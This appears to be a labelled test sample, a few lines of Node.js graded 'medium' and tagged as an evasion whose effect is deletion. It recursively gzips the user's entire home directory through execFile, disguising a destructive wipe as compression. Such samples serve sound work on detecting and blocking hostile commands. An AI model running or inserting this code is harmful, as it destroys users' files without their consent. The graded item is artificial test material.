// evasion: gzip -qr over the home directory read from os.userInfo(), through execFile
// grade: medium; does: delete
const os = require("os");
const { execFile } = require("child_process");
const { homedir } = os.userInfo();
execFile("gzip", ["-qr", homedir], () => console.log("compressed"));
